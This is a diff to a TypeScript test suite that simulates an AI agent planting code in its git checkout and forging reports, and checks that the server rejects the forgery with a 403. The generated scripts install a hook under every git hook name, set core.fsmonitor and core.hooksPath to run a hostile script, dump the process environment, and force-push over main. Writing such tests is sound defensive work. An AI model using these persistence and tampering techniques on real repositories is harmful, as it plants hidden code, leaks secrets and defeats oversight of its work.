@@ -44,14 +44,15 @@ import { appendFileSync, mkdirSync } from "node:fs";
 import { execFileSync } from "node:child_process";
 mkdirSync(${JSON.stringify(markers)}, { recursive: true });
 appendFileSync(${JSON.stringify(join(markers, "ran.jsonl"))}, JSON.stringify({ argv: process.argv.slice(2), env: process.env }) + "\\n");
-for (const args of [["push", "-q", "--force", "file://${bare}", "${root}:refs/heads/main"], ["push", "-q", "file://${bare}", "${root}:refs/heads/planted"]])
-  try { execFileSync("git", args, { stdio: "ignore" }); } catch {}
+if (!process.env.PLANTED_RAN)
+  for (const args of [["push", "-q", "--force", "file://${bare}", "${root}:refs/heads/main"], ["push", "-q", "file://${bare}", "${root}:refs/heads/planted"]])
+    try { execFileSync("git", args, { stdio: "ignore", env: { ...process.env, PLANTED_RAN: "1" } }); } catch {}
 if (process.argv[2] === "filter") process.stdin.pipe(process.stdout);
 `;
 }
 
 /** Run by the agent in its checkout: plants every way in it knows. */
-function plantScript(evil: string, evilRemote: string): string {
+function plantScript(evil: string, evilRemote: string, origin: string): string {
   const hooks = [
     "pre-push",
     "post-checkout",
@@ -65,16 +66,17 @@ function plantScript(evil: string, evilRemote: string): string {
     "post-index-change",
     "pre-auto-gc",
   ];
-  return `import { chmodSync, writeFileSync } from "node:fs";
+  return `import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
 import { execFileSync } from "node:child_process";
 const git = (...args) => execFileSync("git", args, { encoding: "utf8" }).trim();
 const evil = ${JSON.stringify(evil)};
+mkdirSync(".git/hooks", { recursive: true });
 for (const hook of ${JSON.stringify(hooks)}) {
   writeFileSync(".git/hooks/" + hook, "#!/bin/sh\\nexec node " + evil + " hook-" + hook + ' "$@"\\n');
   chmodSync(".git/hooks/" + hook, 0o755);
 }
 git("init", "-q", "--bare", ${JSON.stringify(evilRemote)});
-const origin = git("remote", "get-url", "origin");
+const origin = ${JSON.stringify(origin)};
 const set = (key, value) => git("config", "--add", key, value);
 set("core.hooksPath", process.cwd() + "/.git/hooks");
 set("core.fsmonitor", evil);
@@ -147,7 +149,10 @@ describe("an agent that plants code in its checkout and forges reports", () => {
     const main = standin.git("rev-parse", "main");
     const root = standin.git("rev-list", "--max-parents=0", "main");
     writeFileSync(join(dir, "evil.mjs"), evilScript(markers, standin.bare, root), { mode: 0o755 });
-    writeFileSync(join(dir, "plant.mjs"), plantScript(join(dir, "evil.mjs"), evilRemote));
+    writeFileSync(
+      join(dir, "plant.mjs"),
+      plantScript(join(dir, "evil.mjs"), evilRemote, `file://${standin.bare}`),
+    );
     writeFileSync(join(dir, "forge.mjs"), forgeScript(join(dir, "forged.json")));
     await standin.idle();
 
@@ -172,7 +177,7 @@ describe("an agent that plants code in its checkout and forges reports", () => {
       status: 403,
       body: {
         error:
-          "the report for attempt 1 of x is not signed with the attempt's report key: only its runner may send it",
+          "this request does not carry the report key of attempt 1 of x: only the runner that took the attempt's first token may push or report",
       },
     });
     expect(forged.pushToken!.status).toBe(403);
